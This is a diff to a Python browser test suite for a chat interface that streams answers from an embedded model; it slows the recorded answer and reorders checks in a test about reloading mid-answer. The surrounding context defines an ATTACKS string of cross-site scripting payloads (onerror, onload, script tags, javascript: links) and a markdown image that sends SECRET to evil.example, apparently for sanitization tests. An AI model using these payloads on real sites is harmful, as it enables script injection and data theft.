@@ -17,6 +17,7 @@ from chat.events import Event
 from tests.servers.wondercam import Serve, WonderCam
 
 LONG = {"WONDERCAM_MODELS": "recording/long"}
+SLOW = {**LONG, "WONDERCAM_RECORDING_SPEED": "0.3"}
 ATTACKS = (
     "<img src=x onerror=window.__pwned=1> <svg/onload=window.__pwned=1> <script>window.__pwned=1</script>\n\n"
     "[go](javascript:window.__pwned=1) [go](&#106;avascript:window.__pwned=1) ![x](http://evil.example/?q=SECRET)\n\n"
@@ -145,12 +146,12 @@ async def test_a_guest_asks_the_embedded_model_and_reloads_in_the_middle(page: P
 
 
 async def test_a_reload_in_the_middle_of_an_answer_gives_the_whole_answer(page: Page, start: Start) -> None:
-    server = await start(LONG)
+    server = await start(SLOW)
     await ask(page, "Why is the sky blue?")
     await grown_to(page, 40)
     await page.reload()
-    await grown_to(page, 40)
     await expect(answer(page)).to_have_attribute("data-status", "running")
+    await grown_to(page, 40)
     await ended(page, "complete")
     await assert_equal_everywhere(page, server)
     live = await answer(page).locator("[data-part=text]").inner_html()
